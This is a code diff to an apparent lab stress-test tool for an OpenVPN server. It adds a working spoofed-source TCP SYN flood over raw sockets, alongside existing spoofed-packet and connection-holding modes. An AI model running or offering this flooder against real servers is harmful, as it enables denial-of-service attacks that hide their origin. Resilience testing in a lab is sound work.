@@ -1,10 +1,10 @@
 # Copyright (c) 2026 The intercloud.vpn developers
 # GNU General Public License v3.0 or later (see LICENSE or https://www.gnu.org/licenses/gpl-3.0.txt)
 # SPDX-License-Identifier: GPL-3.0-or-later
-"""What strangers do to an OpenVPN server: spoofed first packets, and TCP connections that say nothing.
+"""What strangers do to an OpenVPN server: spoofed first packets and SYNs, and TCP connections that say nothing.
 
-Runs as a program, in the network of the lab's internet: `flood.py spoof|hold ADDRESS PORT NUMBER SECONDS`. NUMBER is
-kbit/s, or connections. It prints how much it sent, or how many connections the server ended.
+Runs as a program, in the network of the lab's internet: `flood.py spoof|syn|hold ADDRESS PORT NUMBER SECONDS`. NUMBER
+is kbit/s, SYNs per second, or connections. It prints how much it sent, or how many connections the server ended.
 """
 
 from __future__ import annotations
@@ -40,6 +40,33 @@ def spoof(address, port, kbit, seconds):
         due += len(packet) * 8 / (kbit * 1000)
         time.sleep(max(0.0, due - time.monotonic()))
     return sent
+
+
+def syn(address, port, rate, seconds):
+    """SYNs from addresses that are nobody's, of either family."""
+    family = socket.AF_INET6 if ":" in address else socket.AF_INET
+    raw = socket.socket(family, socket.SOCK_RAW, socket.IPPROTO_RAW)
+    to, start = socket.inet_pton(family, address), time.monotonic()
+    for sent in range(rate * seconds):
+        ports = struct.pack("!HH", random.randrange(1024, 65536), port)
+        tcp = ports + os.urandom(4) + struct.pack("!IBBHHH", 0, 5 << 4, 2, 64240, 0, 0)
+        if family == socket.AF_INET6:
+            source = socket.inet_pton(family, "2001:2::")[:6] + os.urandom(10)
+            head = struct.pack("!IHBB", 6 << 28, len(tcp), socket.IPPROTO_TCP, 64) + source + to
+        else:
+            source = bytes([198, random.choice((18, 19)), random.randrange(256), random.randrange(1, 255)])
+            head = struct.pack("!BBHHHBBH", 0x45, 0, 40, 0, 0, 64, socket.IPPROTO_TCP, 0) + source + to
+        check = _checksum(source + to + struct.pack("!II", socket.IPPROTO_TCP, len(tcp)) + tcp)
+        raw.sendto(head + tcp[:16] + struct.pack("!H", check) + tcp[18:], (address, 0))
+        time.sleep(max(0.0, start + sent / rate - time.monotonic()))
+    return rate * seconds
+
+
+def _checksum(data):
+    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
+    while total >> 16:
+        total = (total >> 16) + (total & 0xFFFF)
+    return ~total & 0xFFFF
 
 
 def hold(address, port, number, seconds):
@@ -78,4 +105,4 @@ def going_on(kind, address, port, number, seconds):
 
 if __name__ == "__main__":
     what, where, *numbers = sys.argv[1:]
-    print({"spoof": spoof, "hold": hold}[what](where, *map(int, numbers)))
+    print({"spoof": spoof, "syn": syn, "hold": hold}[what](where, *map(int, numbers)))
